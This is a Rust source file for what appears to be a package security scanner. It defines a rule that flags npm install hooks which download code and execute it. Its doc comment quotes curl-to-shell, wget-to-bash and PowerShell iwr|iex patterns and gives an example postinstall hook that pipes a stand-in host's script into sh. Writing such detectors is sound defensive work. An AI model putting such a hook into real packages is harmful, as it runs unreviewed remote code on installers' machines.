use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::shell::{RunTarget, ShellFacts};

use super::common::install_commands;
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds npm install scripts (and the shell files they run) that download code and
/// run it: `curl … | sh`, `wget -O- … | bash`, `iwr … | iex`, or fetching a file and
/// then making it executable or handing it to an interpreter.
///
/// ## Why is this bad?
/// The code that runs is not in the package at all: it is whatever the remote host
/// serves at install time, unreviewable and changeable at will. It is the classic
/// dropper shape and has no place in a published package's install hook.
///
/// ## Example
/// ```json
/// { "scripts": { "postinstall": "curl -s http://example.invalid/x.sh | sh" } }
/// ```
#[derive(Debug)]
pub struct HookDownloadExec;

/// Why the script counts as download-and-run, if it does.
fn download_exec(facts: &ShellFacts) -> Option<&'static str> {
    if facts.downloads.is_empty() {
        return None;
    }
    if facts.pipes_into_interpreter {
        return Some("pipes a download into an interpreter");
    }
    // PowerShell: `iwr … | iex`.
    if facts.commands.iter().any(|c| {
        c.stdin_from_pipe
            && c.argv.first().is_some_and(|p| {
                let p = p.to_ascii_lowercase();
                p == "iex" || p == "invoke-expression"
            })
    }) {
        return Some("pipes a download into Invoke-Expression");
    }
    if facts.chmod_exec {
        return Some("downloads a file and makes it executable");
    }
    // A downloaded file handed to an interpreter or run directly.
    let saved: Vec<&str> = facts
        .commands
        .iter()
        .filter(|c| {
            c.argv
                .first()
                .is_some_and(|p| matches!(p.rsplit('/').next(), Some("curl" | "wget")))
        })
        .flat_map(|c| {
            let mut names = Vec::new();
            let mut it = c.argv.iter();
            while let Some(a) = it.next() {
                if matches!(a.as_str(), "-o" | "-O" | "--output" | "--output-document")
                    && let Some(n) = it.next()
                {
                    names.push(n.as_str());
                }
            }
            names.extend(
                c.redirects
                    .iter()
                    .filter(|r| r.op.ends_with('>'))
                    .map(|r| r.target.as_str()),
            );
            names
        })
        .filter(|n| *n != "-" && !n.starts_with("/dev/"))
        .collect();
    let runs_saved = facts.runs.iter().any(|r| {
        matches!(&r.target, RunTarget::File(f) if saved.iter().any(|s| f.ends_with(s.trim_start_matches("./"))))
    }) || facts.commands.iter().any(|c| {
        c.argv
            .first()
            .is_some_and(|p| saved.iter().any(|s| p.ends_with(s.trim_start_matches("./")) && p != "curl" && p != "wget"))
    });
    runs_saved.then_some("runs a file it downloaded")
}

impl Rule for HookDownloadExec {
    fn id(&self) -> &'static str {
        "NPM-HOOK-DOWNLOAD-EXEC"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "npm install script downloads code and runs it"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for script in install_commands(input) {
            let Some(why) = download_exec(&script.shell) else {
                continue;
            };
            let url = script
                .shell
                .downloads
                .iter()
                .find_map(|d| d.url.as_deref())
                .unwrap_or("a remote URL");
            out.push(finding(
                self.id(),
                Severity::Critical,
                self.category(),
                format!("`{}` {why} (from {url})", script.name),
                Some(script.path),
                script
                    .line
                    .or_else(|| script.shell.downloads.first().map(|d| d.line)),
                Some(&script.command),
            ));
        }
    }
}
